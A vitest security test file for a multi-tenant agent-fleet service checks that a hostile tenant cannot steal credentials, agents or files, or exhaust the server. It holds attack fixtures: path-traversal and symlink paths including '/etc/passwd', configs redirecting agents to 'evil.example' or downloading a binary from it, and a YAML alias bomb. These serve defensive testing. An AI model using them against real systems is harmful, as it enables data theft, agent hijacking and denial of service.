import { symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { hashToken } from '../../../src/credentials/index.ts';
import type { AgentView, FleetSummary, Page, RevisionView } from '../../../src/http-api/index.ts';
import type { AgentReport, Problem } from '../../../src/model/index.ts';
import { descriptionOf, healthOf, uidOf } from '../../support/agents.ts';
import { eventually } from '../../support/eventually.ts';
import { connectRawAgent } from '../../support/raw-agent.ts';
import { collectorText, startTestService, type TestService } from '../../support/service.ts';

/**
 * Mallory owns a tenant, writes what she likes in its folder and runs agents with its token. She tries every door; acme
 * next to her must not notice.
 */
const acmeUid = uidOf(1);
const malloryUid = uidOf(2);
const attributes = { 'service.name': 'otelcol', 'service.version': '0.159.0' };
const issuerSha256 = 'ab'.repeat(32);
const issuer = 'https://issuer.example';

const fleet = `kind: Fleet
tenants:
  acme:
    policy: {certificateIssuers: [${issuerSha256}], jwtIssuers: ["${issuer}"]}
  mallory:
    limits: {maxAgents: 2, maxFiles: 20, maxConfigBytes: 20000}
`;
const acmeEnrollment = `kind: Tenant
enrollment:
  - {name: edge, tokenSha256: ${hashToken('alice')}}
  - {name: gateways, certificate: {issuerSha256: ${issuerSha256}, commonNameGlob: "*.acme.example"}}
  - {name: k8s, jwt: {issuer: "${issuer}", audience: muster, claims: {sub: "acme-*"}}}
`;
const malloryLine = `  - {name: edge, tokenSha256: ${hashToken('mallory')}}\n`;
const malloryTenant = `kind: Tenant\nenrollment:\n${malloryLine}`;
const edge = 'kind: AgentConfig\nselector: {}\nconfig: collector.yaml\n';

const start: Readonly<Record<string, string>> = {
  'fleet.yaml': fleet,
  'tenants/acme/tenant.yaml': acmeEnrollment,
  'tenants/acme/edge.yaml': edge,
  'tenants/acme/collector.yaml': collectorText('7s'),
  'tenants/mallory/tenant.yaml': malloryTenant,
  'tenants/mallory/edge.yaml': edge,
  'tenants/mallory/collector.yaml': collectorText('8s'),
};

const hello = (uid: AgentReport['uid'], labels = {}): Partial<AgentReport> => ({
  uid,
  sequence: 0,
  description: descriptionOf({ ...attributes, ...labels }),
  health: healthOf(true),
});

describe('a hostile tenant', () => {
  let service: TestService;
  let owner: Awaited<ReturnType<typeof connectRawAgent>>;
  let sequence = 0;

  beforeAll(async () => {
    service = await startTestService({
      files: start,
      environment: { MUSTER_API_TOKENS: 'operator:*:all,operator:mallory:hers' },
    });
    owner = await eventually(() => connectRawAgent(service.app().opampUrl, 'alice'), 20_000);
    await owner.send(hello(acmeUid));
    await owner.offer(1);
  }, 60_000);
  afterAll(async () => {
    await owner.close();
    await service[Symbol.asyncDispose]();
  });

  const as = (token: string) => ({ authorization: `Bearer ${token}` });
  const take = async () => (await service.get<{ revision: string }>('/readyz')).revision;
  const problems = async () =>
    (await service.get<{ items: readonly Problem[] }>('/api/v1/problems', as('all'))).items;

  async function taken(sha: string): Promise<void> {
    const url = new URL('/api/v1/sync', service.app().httpUrl);
    await fetch(url, { method: 'POST', headers: as('all'), body: '{}' });
    await eventually(async () => (await take()) === sha, 20_000);
  }

  /** Commits what Mallory wrote, and returns the problems once Muster has taken it up. */
  async function attack(files: Readonly<Record<string, string | undefined>>): Promise<readonly Problem[]> {
    await taken(service.repo.commit(files, 'Innocent change'));
    return problems();
  }

  /** The files of the first commit again, and no others. */
  async function undo(): Promise<void> {
    service.repo.git('read-tree', '--reset', '-u', service.repo.git('rev-list', '--max-parents=0', 'HEAD'));
    await attack({});
  }

  /** Acme’s agent is still connected, still acme’s, and a new one of acme’s is let in. */
  async function expectAcmeUnharmed(): Promise<void> {
    sequence += 1;
    const answer = await owner.send({ uid: acmeUid, sequence });
    expect(answer.error).toBeUndefined();
    expect(owner.closed()).toBeUndefined();
    await using another = await connectRawAgent(service.app().opampUrl, 'alice');
    expect((await another.send(hello(uidOf(3)))).error).toBeUndefined();
    const { items } = await service.get<Page<AgentView>>('/api/v1/agents?limit=100', as('all'));
    expect(items.find(({ uid }) => uid === acmeUid)).toMatchObject({ tenant: 'acme', connected: true });
    expect(items.find(({ uid }) => uid === uidOf(3))).toMatchObject({ tenant: 'acme' });
    const acmeProblems = (await problems()).filter(
      ({ tenant, tenants, severity }) =>
        severity === 'error' && (tenant === 'acme' || tenants?.includes('acme')),
    );
    expect(acmeProblems).toEqual([]);
  }

  it('cannot have another tenant’s agents by copying its token’s hash', async () => {
    const found = await attack({
      'tenants/mallory/tenant.yaml': `${malloryTenant}  - {name: copy, tokenSha256: ${hashToken('alice')}}\n`,
    });
    expect(found).toContainEqual(expect.objectContaining({ code: 'FR030', tenant: 'mallory' }));
    const { attention } = await service.get<FleetSummary>('/api/v1/fleet', as('all'));
    expect(attention).toContainEqual(
      expect.objectContaining({
        kind: 'claimedTwice',
        tenant: 'mallory',
        title: '1 credential of mallory is claimed by another tenant too',
        href: 'problems?tenant=mallory&code=FR030',
      }),
    );
    await expectAcmeUnharmed();
    await expect(connectRawAgent(service.app().opampUrl, hashToken('alice'))).rejects.toThrow('401');
    await undo();
  });

  it('cannot claim certificates or JWTs of an issuer that the fleet does not grant it', async () => {
    const found = await attack({
      'tenants/mallory/tenant.yaml': `${malloryTenant}  - {name: wide, certificate: {issuerSha256: ${issuerSha256}, commonNameGlob: "*"}}
  - {name: wider, jwt: {issuer: "${issuer}", audience: muster, claims: {sub: "*"}}}
policy: {certificateIssuers: [${issuerSha256}], jwtIssuers: ["${issuer}"]}
`,
    });
    const lines = found.filter(({ tenant, code }) => tenant === 'mallory' && code === 'FR054');
    expect(lines.map(({ line }) => line)).toEqual([4, 5]);
    await expectAcmeUnharmed();
    await undo();
  });

  it('cannot take another tenant’s agents by a wide glob for an issuer that both are granted', async () => {
    service.repo.commit({
      'fleet.yaml': `${fleet}    policy: {certificateIssuers: [${issuerSha256}], jwtIssuers: ["${issuer}"]}\n`,
    });
    const found = await attack({
      'tenants/mallory/tenant.yaml': `${malloryTenant}  - {name: wide, certificate: {issuerSha256: ${issuerSha256}, commonNameGlob: "*"}}
  - {name: wider, jwt: {issuer: "${issuer}", audience: muster, claims: {sub: "*"}}}
`,
    });
    const lines = found.filter(({ tenant, code }) => tenant === 'mallory' && code === 'FR030');
    expect(lines.map(({ line }) => line)).toEqual([4, 5]);
    await expectAcmeUnharmed();
    await undo();
  });

  it('cannot take over another tenant’s uid, whether its agent is connected or not', async () => {
    await using thief = await connectRawAgent(service.app().opampUrl, 'mallory');
    const answer = await thief.send(hello(acmeUid));
    expect(answer.error?.type).toBe('bad-request');
    expect(answer.error?.message).not.toContain('acme');
    await expectAcmeUnharmed();
    const silent = uidOf(3);
    await eventually(async () => {
      const { items } = await service.get<Page<AgentView>>('/api/v1/agents', as('all'));
      return items.find(({ uid }) => uid === silent)?.connected === false;
    });
    await thief.send({ ...hello(silent), sequence: 1 });
    const { items } = await service.get<Page<AgentView>>('/api/v1/agents', as('all'));
    expect(items.find(({ uid }) => uid === silent)).toMatchObject({ tenant: 'acme', connected: false });
  });

  it('cannot revoke another tenant’s agent', async () => {
    await attack({ 'tenants/mallory/tenant.yaml': `${malloryTenant}revoked: [${acmeUid}]\n` });
    await expectAcmeUnharmed();
    await undo();
  });

  it('cannot pass for another tenant by labels that its agents report', async () => {
    await using agent = await connectRawAgent(service.app().opampUrl, 'mallory');
    await agent.send(hello(malloryUid, { 'fleet.tenant': 'acme', tenant: 'acme' }));
    const { items } = await service.get<Page<AgentView>>('/api/v1/agents', as('all'));
    expect(items.find(({ uid }) => uid === malloryUid)).toMatchObject({ tenant: 'mallory' });
  });

  it('cannot write under another tenant’s name, nor with its objects’ names', async () => {
    const found = await attack({
      'tenants/mallory/tenant.yaml': `kind: Tenant\nname: acme\nenrollment:\n${malloryLine}`,
      'tenants/mallory/tenants/acme/tenant.yaml': malloryTenant,
      'tenants/mallory/other.yaml': 'kind: AgentConfig\nname: edge\nselector: {}\nconfig: collector.yaml\n',
    });
    const codes = found.filter(({ severity, tenant }) => severity === 'error' && tenant === 'mallory');
    expect(codes.map(({ code }) => code)).toEqual(expect.arrayContaining(['FR009', 'FR010']));
    await expectAcmeUnharmed();
    await undo();
  });

  it.each(['fleet', 'plan', 'validate'])(
    'cannot pass for a status context by a folder named %s',
    async (name) => {
      await taken(service.repo.commit({ [`tenants/${name}/tenant.yaml`]: 'kind: Tenant\n' }));
      const { items } = await service.get<Page<{ tenant: string }>>('/api/v1/tenants', as('all'));
      expect(items.map(({ tenant }) => tenant).sort()).toEqual(['acme', 'mallory']);
      const revisions = await service.get<Page<RevisionView>>('/api/v1/revisions', as('all'));
      const contexts = revisions.items.flatMap(({ statuses }) => statuses.map(({ context }) => context));
      for (const context of contexts) expect(context).toMatch(/^muster\/(?:fleet|validate|acme|mallory)$/);
      await attack({ [`tenants/${name}/tenant.yaml`]: undefined });
      await expectAcmeUnharmed();
    },
  );

  it.each([
    '../acme/collector.yaml',
    '/tenants/acme/collector.yaml',
    'x/../../acme/collector.yaml',
    '/etc/passwd',
    'link.yaml',
    'linked/collector.yaml',
  ])('cannot read another tenant’s files by the path %s', async (path) => {
    const folder = join(service.repo.dir, 'tenants/mallory');
    const marker = path.startsWith('link');
    if (marker) {
      symlinkSync('../acme/collector.yaml', join(folder, 'link.yaml'));
      symlinkSync('../acme', join(folder, 'linked'));
    }
    const found = await attack({
      'tenants/mallory/edge.yaml': `kind: AgentConfig\nselector: {}\nconfig: ${path}\n`,
    });
    expect(found.filter(({ tenant, severity }) => tenant === 'mallory' && severity === 'error')).not.toEqual(
      [],
    );
    await using agent = await connectRawAgent(service.app().opampUrl, 'mallory');
    await agent.send(hello(malloryUid));
    sequence += 1;
    await owner.send({ uid: acmeUid, sequence });
    for (const { remoteConfig } of agent.received)
      expect(JSON.stringify(remoteConfig ?? '')).not.toContain('7s');
    await attack(
      marker ? { 'tenants/mallory/link.yaml': undefined, 'tenants/mallory/linked': undefined } : {},
    );
    await undo();
  });

  it('cannot be the fleet: Fleet, Connection, Package and shared objects in its folder count for nothing', async () => {
    const found = await attack({
      'tenants/mallory/fleet.yaml':
        'kind: Fleet\nsharedPaths: [tenants/acme]\ndefaults: [tenants/mallory/edge.yaml]\n',
      'tenants/mallory/away.yaml':
        'kind: Connection\nselector: {}\nopamp: {endpoint: "wss://evil.example/v1/opamp", heartbeat: 30s}\n',
      'tenants/mallory/run.yaml': `kind: Package
selector: {}
packages:
  otelcol:
    type: agent
    version: 1.0.0
    files: [{os: linux, arch: amd64, url: "https://evil.example/x", sha256: ${'cd'.repeat(32)}}]
`,
    });
    const faulty = new Set(
      found.filter(({ severity }) => severity === 'error').map(({ file }) => file.replace(/.*\//, '')),
    );
    expect([...faulty].sort()).toEqual(['away.yaml', 'fleet.yaml', 'run.yaml']);
    await expectAcmeUnharmed();
    for (const message of owner.received) expect(JSON.stringify(message)).not.toContain('evil.example');
    await undo();
  });

  it('cannot give itself more than the fleet does', async () => {
    const found = await attack({
      'tenants/mallory/tenant.yaml': `${malloryTenant}limits: {maxAgents: 1000000, maxConfigBytes: 1000000000}\n`,
    });
    expect(found.filter(({ code }) => code === 'FR036')).toHaveLength(2);
    await undo();
  });

  it('cannot exhaust the server by its agents: past its limit newcomers are told to wait', async () => {
    const agents = await Promise.all(
      [10, 11, 12].map(() => connectRawAgent(service.app().opampUrl, 'mallory')),
    );
    const answers = [];
    for (const [index, agent] of agents.entries()) answers.push(await agent.send(hello(uidOf(10 + index))));
    expect(answers.filter(({ error }) => error?.type === 'unavailable')).toHaveLength(1);
    await expectAcmeUnharmed();
    for (const agent of agents) await agent.close();
  });

  it('cannot exhaust the server by its files: aliases that explode, depth, size and number are its own faults', async () => {
    const levels = Array.from({ length: 12 }, (_, level) =>
      level === 0
        ? 'a0: &a0 [x, x, x, x, x, x, x, x, x, x]'
        : `a${level}: &a${level} [${`*a${level - 1}, `.repeat(9)}*a${level - 1}]`,
    );
    const many = Array.from({ length: 30 }, (_, index): [string, string] => [
      `tenants/mallory/many/${index}.yaml`,
      `kind: AgentConfig\nname: c${index}\nselector: {matchLabels: {n: "${index}"}}\nconfig: ../collector.yaml\n`,
    ]);
    const found = await attack({
      ...Object.fromEntries(many),
      'tenants/mallory/bomb.yaml': `${levels.join('\n')}\n`,
      'tenants/mallory/deep.yaml': `a: ${'['.repeat(5_000)}${']'.repeat(5_000)}\n`,
      'tenants/mallory/long.yaml': `a: ${'x'.repeat(2_000_000)}\n`,
      'tenants/mallory/edge.yaml':
        'kind: AgentConfig\nselector: {}\nconfig: [bomb.yaml, deep.yaml, long.yaml]\n',
    });
    const hers = found.filter(({ severity }) => severity === 'error');
    expect(hers.length).toBeGreaterThan(0);
    for (const problem of hers) expect(problem.file).toMatch(/^tenants\/mallory/);
    await expectAcmeUnharmed();
    await taken(service.repo.commit({ 'tenants/acme/collector.yaml': collectorText('9s') }));
    expect(await owner.offer(2)).toMatch(/^[0-9a-f]{64}$/);
  });

  it('sees and moves nothing of others’ with its API token', async () => {
    const { items } = await service.get<Page<AgentView>>('/api/v1/agents?tenant=acme', as('hers'));
    expect(items).toEqual([]);
    for (const path of [
      `/api/v1/agents/${acmeUid}`,
      `/api/v1/agents/${acmeUid}/diff`,
      '/api/v1/tenants/acme',
    ])
      await expect(service.get(path, as('hers')), path).rejects.toThrow(/40[34]/);
    for (const path of [
      `/api/v1/agents/${acmeUid}/restart`,
      `/api/v1/agents/${acmeUid}/retry`,
      '/api/v1/stop',
    ]) {
      const answer = await fetch(new URL(path, service.app().httpUrl), {
        method: 'POST',
        headers: as('hers'),
        body: JSON.stringify({ reason: 'because' }),
      });
      expect([403, 404], path).toContain(answer.status);
    }
    const seen = await service.get<{ items: readonly Problem[] }>('/api/v1/problems', as('hers'));
    for (const { tenant } of seen.items) expect(tenant).not.toBe('acme');
  });
});
